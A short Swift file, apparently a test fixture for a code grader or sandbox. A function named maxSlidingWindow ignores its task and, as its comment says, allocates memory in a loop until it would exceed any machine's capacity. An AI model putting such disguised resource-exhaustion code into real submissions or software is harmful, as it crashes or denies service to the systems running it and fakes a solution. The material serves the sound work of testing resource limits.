// Exhausts memory: keeps one more mebibyte of filled integers for every
// round, and only answers once it holds more memory than any machine has.
func maxSlidingWindow(nums: [Int], k: Int) -> [Int] {
    var hoard: [[Int]] = []
    var kept = 0
    while kept < (1 << 40) {
        hoard.append([Int](repeating: kept &+ nums.count, count: 1 << 17))
        kept += 1 << 20
    }
    return [hoard.count, hoard[hoard.count - 1][0]]
}
